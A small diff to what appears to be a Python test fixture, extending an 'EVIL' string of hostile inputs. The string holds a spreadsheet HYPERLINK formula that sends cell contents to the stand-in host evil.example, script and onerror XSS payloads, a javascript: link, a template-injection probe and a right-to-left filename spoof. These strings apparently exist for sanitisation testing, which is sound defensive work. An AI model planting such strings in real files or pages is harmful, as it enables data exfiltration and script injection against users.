@@ -262,7 +262,7 @@ def small() -> Dossier:
 
 EVIL = (
     "=HYPERLINK(\"http://evil.example/?\"&A1)<script>document.title='owned'</script>\u202egnp.exe\x1b[31m\x00"
-    "<img src=http://evil.example/x.png onerror=alert(1)> {{ 7*7 }} [x](javascript:alert(1)) `|`"
+    "<img src=http://evil.example/x.png onerror=alert(1)> {{ 7*7 }} [x](javascript:alert(1)) `|`;=1+1"
 )
 
 
